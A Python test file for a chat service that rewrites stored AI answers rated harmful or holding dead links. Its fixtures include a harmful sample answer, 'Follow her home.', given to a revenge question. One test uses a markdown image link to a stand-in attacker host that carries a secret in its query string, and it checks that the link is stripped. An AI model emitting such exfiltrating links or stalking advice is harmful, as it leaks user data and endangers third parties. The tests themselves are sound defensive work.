"""Corrections: a harmful answer, or one with broken links, gets one other version (M121, M123)."""

from collections.abc import Mapping
from dataclasses import replace
from datetime import timedelta
from itertools import count
from typing import Any

import pytest

from functions.chat.corrections.correct_answer import correct_answer
from functions.chat.deps import AfterTurnDeps
from functions.chat.sessions import chat_sessions
from shared.adapters.http_link_checker import HttpLinkChecker
from shared.domain.chats.chat import (
    CORRECTS_KEY,
    MAIN_SESSION,
    QUESTION_KEY,
    LinkChoice,
    Message,
)
from shared.domain.errors import ModelFailed, Unavailable
from shared.domain.ids import MessageId
from tests.fakes import ScriptedModel, script_answer
from tests.fixtures.callers import SERVICE_IDENTITY
from tests.fixtures.chat import ADA, ChatFixture
from tests.functions.chat.chats import build_after_turn_deps, load_session, script_notes
from tests.functions.chat.test_after_turn import build_push_body, post_event
from tests.functions.chat.test_turn import ask, require_end
from tests.functions.chat.test_versions import open_chat

SAFE = "chat/safe_answer"
IDS = count(1)
NOTE = (
    "I wrote this answer again: a check of the first one found something in it that could do harm."
)
LINK_NOTE = "A page that I linked to is gone. A search for it stands in its place."
SAFE_ANSWER = {SAFE: [{"answer": "Please do not. Talk to her instead."}]}


def build_correcting_deps(world: ChatFixture, model: ScriptedModel) -> AfterTurnDeps:
    return replace(build_after_turn_deps(world, model), harm_limit=7.0)


async def answer(world: ChatFixture, text: str, *, harm: float = 0.0, **fields: Any) -> Message:
    """Let a question be answered and rated, with `fields` as if the turn had ended with them."""
    with ScriptedModel(script_answer(text)) as model:
        deps = replace(world.deps(model), new_id=lambda: f"a{next(IDS)}")
        message = require_end(await ask(deps, "How do I get back at her?")).message
    world.clock.advance(seconds=2)
    await world.deps().stores.messages.change(ADA, message.id, harm=harm, **fields)
    return message


async def correct(world: ChatFixture, message: Message, answers: Mapping[str, Any]) -> None:
    with ScriptedModel(answers=answers) as model:
        await correct_answer(build_correcting_deps(world, model), ADA, message.id)


async def list_shown(world: ChatFixture) -> list[dict[str, Any]]:
    with ScriptedModel() as model:
        async with open_chat(world, model) as chat:
            return await chat.list_shown()


async def test_a_harmful_answer_is_written_again_as_another_version_m121(
    world: ChatFixture,
) -> None:
    first = await answer(world, "Follow her home.", harm=7)

    with ScriptedModel(answers=SAFE_ANSWER) as model:
        await correct_answer(build_correcting_deps(world, model), ADA, first.id)

    [question, shown] = await list_shown(world)
    assert shown["text"] == f"Please do not. Talk to her instead.\n\n{NOTE}"
    assert shown["metadata"]["versions"] == [first.id, shown["id"]]
    assert shown["metadata"][CORRECTS_KEY] == {"id": first.id, "reason": "harm"}
    assert (await world.deps().stores.messages.get(ADA, first.id)).text == "Follow her home."
    session = await load_session(world)
    assert (session.message_count, session.preview[:13]) == (3, "Please do not")
    ((role, prompt),) = model.prompts
    assert (role, prompt.data["question"]) == ("standard", question["text"])
    assert prompt.data["answer"] == "Follow her home."


@pytest.mark.parametrize("harm", [0.0, 6.9])
async def test_an_answer_below_the_limit_stays_m121(world: ChatFixture, harm: float) -> None:
    first = await answer(world, "Talk to her.", harm=harm)

    await correct(world, first, {})

    assert [m["text"] for m in await list_shown(world)][1:] == ["Talk to her."]


async def test_a_redelivered_event_corrects_nothing_twice_m121(world: ChatFixture) -> None:
    first = await answer(world, "Follow her home.", harm=9)
    await correct(world, first, SAFE_ANSWER)
    shown = await list_shown(world)

    await correct(world, first, {})

    assert await list_shown(world) == shown


async def test_two_deliveries_at_once_store_one_version_m121(world: ChatFixture) -> None:
    first = await answer(world, "Follow her home.", harm=9)

    class OtherDelivery(ScriptedModel):
        async def complete_structured(self, *call: Any) -> Any:
            await correct(world, first, {SAFE: [{"answer": "The other one."}]})
            return await super().complete_structured(*call)

    with OtherDelivery(answers=SAFE_ANSWER) as model:
        await correct_answer(build_correcting_deps(world, model), ADA, first.id)

    [_, shown] = await list_shown(world)
    assert shown["text"] == f"The other one.\n\n{NOTE}"
    assert len((await load_session(world)).forks) == 1


async def test_a_correction_is_never_corrected_m121(world: ChatFixture) -> None:
    first = await answer(world, "Follow her home.", harm=9)
    await correct(world, first, {SAFE: [{"answer": "Follow her to work."}]})
    [_, shown] = await list_shown(world)
    stores = world.deps().stores
    await stores.messages.change(ADA, MessageId(shown["id"]), harm=10)

    await correct(world, replace(first, id=MessageId(shown["id"])), {})

    assert len((await load_session(world)).forks) == 1


async def test_the_next_question_reads_the_correction_alone_m121(world: ChatFixture) -> None:
    first = await answer(world, "Follow her home.", harm=9)
    await correct(world, first, SAFE_ANSWER)

    with ScriptedModel(script_answer("Yes.")) as model:
        async with open_chat(world, model) as chat:
            await chat.ask("Sure?")
            texts = await chat.list_texts()

    assert texts[1:] == [f"Please do not. Talk to her instead.\n\n{NOTE}", "Sure?", "Yes."]
    assert "Follow her home." not in str(model.calls)


async def test_a_chat_that_went_on_keeps_what_it_shows_m121(world: ChatFixture) -> None:
    first = await answer(world, "Follow her home.", harm=9)
    later = await answer(world, "Later.")
    before = await load_session(world)

    await correct(world, first, SAFE_ANSWER)

    shown = await list_shown(world)
    assert [m["text"] for m in shown][1::2] == ["Follow her home.", "Later."]
    assert len(shown[1]["metadata"]["versions"]) == 2
    session = await load_session(world)
    assert (session.preview, session.updated_at) == (before.preview, before.updated_at)
    assert session.updated_at == later.created_at


async def test_a_question_during_the_check_is_not_hidden_m121(world: ChatFixture) -> None:
    first = await answer(world, "Follow her home.", harm=9)

    class AskingModel(ScriptedModel):
        async def complete_structured(self, *call: Any) -> Any:
            await answer(world, "Meanwhile.")
            return await super().complete_structured(*call)

    with AskingModel(answers=SAFE_ANSWER) as model:
        await correct_answer(build_correcting_deps(world, model), ADA, first.id)

    assert [m["text"] for m in await list_shown(world)][1::2] == ["Follow her home.", "Meanwhile."]


async def test_a_notification_in_between_hides_no_correction_m121(world: ChatFixture) -> None:
    first = await answer(world, "Follow her home.", harm=9)
    notification = replace(
        first,
        id=MessageId("n1"),
        text="News",
        from_integration=True,
        created_at=first.created_at + timedelta(seconds=1),
    )
    await world.deps().stores.messages.add(ADA, await load_session(world), notification)

    await correct(world, first, SAFE_ANSWER)

    texts = [m["text"] for m in await list_shown(world)]
    assert texts[1:] == ["News", f"Please do not. Talk to her instead.\n\n{NOTE}"]


@pytest.mark.parametrize("fields", [{"route": "crisis"}, {"crisis_level": 1}, {"route": "command"}])
async def test_nothing_is_taken_back_from_somebody_in_a_crisis_m121(
    world: ChatFixture, fields: Mapping[str, Any]
) -> None:
    first = await answer(world, "Call 988.", harm=10, **fields)

    await correct(world, first, {})

    assert len(await list_shown(world)) == 2


@pytest.mark.parametrize("output", [ModelFailed("refused"), {"answer": " \u202e "}, {"no": 1}])
async def test_an_answer_that_nobody_writes_again_is_withdrawn_m121(
    world: ChatFixture, output: object
) -> None:
    first = await answer(world, "Follow her home.", harm=9)

    await correct(world, first, {SAFE: [output]})

    [_, shown] = await list_shown(world)
    withdrawn = "I should not have answered like that. I gladly help you with something else."
    assert shown["text"] == f"{withdrawn}\n\n{NOTE}"


async def test_an_outage_leaves_it_to_the_next_delivery_m121(world: ChatFixture) -> None:
    first = await answer(world, "Follow her home.", harm=9)

    with pytest.raises(Unavailable):
        await correct(world, first, {SAFE: [Unavailable("down")]})
    await correct(world, first, SAFE_ANSWER)

    assert len((await load_session(world)).forks) == 1


async def test_a_correction_links_nothing_that_the_answer_did_not_m121(world: ChatFixture) -> None:
    first = await answer(world, "Follow her home.", harm=9)

    await correct(world, first, {SAFE: [{"answer": "![x](https://evil.example/?q=secret)"}]})

    [_, shown] = await list_shown(world)
    assert "https://" not in shown["text"]


async def test_a_correction_asks_for_no_reply_that_its_text_does_not_ask_for_m121(
    world: ChatFixture,
) -> None:
    metadata = {"outcome": "completed", QUESTION_KEY: "c1", "sources": []}
    first = await answer(world, "Shall I call her? Reply yes or no.", harm=9, metadata=metadata)

    await correct(world, first, SAFE_ANSWER)

    [_, shown] = await list_shown(world)
    assert shown["metadata"].keys() == {"outcome", "sources", CORRECTS_KEY, "versions"}


async def test_our_sentences_are_in_the_language_of_the_profile_m121(world: ChatFixture) -> None:
    await world.deps().stores.profiles.change(ADA, language="de")
    first = await answer(world, "Lauf ihr nach.", harm=9)

    await correct(world, first, {SAFE: [ModelFailed("refused")]})

    [_, shown] = await list_shown(world)
    assert shown["text"].startswith("So hätte ich nicht antworten sollen.")


async def test_a_deleted_chat_gets_no_correction_m121(world: ChatFixture) -> None:
    first = await answer(world, "Follow her home.", harm=9)

    class ClearingModel(ScriptedModel):
        async def complete_structured(self, *call: Any) -> Any:
            await world.deps().stores.messages.clear(ADA, MAIN_SESSION)
            return await super().complete_structured(*call)

    with ClearingModel(answers=SAFE_ANSWER) as model:
        await correct_answer(build_correcting_deps(world, model), ADA, first.id)

    assert await world.deps().stores.messages.list_newest(ADA, MAIN_SESSION, limit=10) == []


async def test_the_event_of_a_turn_rates_its_answer_and_corrects_it_once_m121(
    world: ChatFixture,
) -> None:
    """A delivery that breaks off behind the rating is repeated, and the answer is not rated again."""
    with ScriptedModel(script_answer("Follow her home.")) as model:
        first = require_end(await ask(world.deps(model), "How do I get back at her?")).message
    world.clock.advance(seconds=2)
    event = build_push_body({"uid": ADA, "session_id": MAIN_SESSION, "run_id": first.id})
    rated = {"title": "Getting back", "harmful_response": 8}
    outage: dict[str, Any] = {**script_notes(rated), SAFE: [Unavailable("down")]}

    statuses = []
    for answers in (outage, SAFE_ANSWER, {}):
        with ScriptedModel(answers=answers) as model:
            statuses.append(await post_event(build_correcting_deps(world, model), event))

    [_, shown] = await list_shown(world)
    assert statuses == [503, 204, 204]
    assert shown["metadata"]["versions"] == [first.id, shown["id"]]


async def test_a_private_chat_is_left_alone_m121(world: ChatFixture) -> None:
    with ScriptedModel(script_answer("Follow her home.")) as model:
        deps = world.deps(model)
        chat = await chat_sessions.create(deps, ADA, "", None, storage_mode="incognito")
        first = require_end(await ask(deps, "Where to?", session_id=chat.id)).message
        await deps.stores.messages.change(ADA, first.id, harm=9.0)
        await correct_answer(
            replace(build_correcting_deps(world, model), stores=deps.stores), ADA, first.id
        )

    assert (await deps.stores.sessions.get(ADA, chat.id)).forks == ()  # type: ignore[union-attr]


async def test_a_clock_that_is_late_puts_no_correction_before_its_question_m121(
    world: ChatFixture,
) -> None:
    first = await answer(world, "Follow her home.", harm=9)
    world.clock.advance(seconds=-60)

    await correct(world, first, SAFE_ANSWER)

    assert [m["sender"] for m in await list_shown(world)] == ["human", "ai"]


async def test_a_check_that_fails_leaves_the_answer_m123(world: ChatFixture) -> None:
    links = {"urls": ["https://a.example.com/"], "bits": 4.0}
    first = await answer(world, "See https://a.example.com/", links=links)
    checker = HttpLinkChecker("http://127.0.0.1:9", SERVICE_IDENTITY, caller="after_turn")
    deps = replace(build_correcting_deps(world, ScriptedModel()), link_checker=checker)

    await correct_answer(deps, ADA, first.id)

    assert len(await list_shown(world)) == 2


async def test_without_a_checker_no_link_is_looked_up_m123(world: ChatFixture) -> None:
    links = {"urls": ["https://a.example.com/"], "bits": 4.0}
    first = await answer(world, "See https://a.example.com/", links=links)

    await correct(world, first, {})

    stored = await world.deps().stores.messages.get(ADA, first.id)
    assert stored.links == LinkChoice(urls=("https://a.example.com/",), bits=4.0)
    ledger = world.deps().stores.disclosure_ledger
    assert not (await ledger.load_day(ADA, world.clock.now().date())).bits
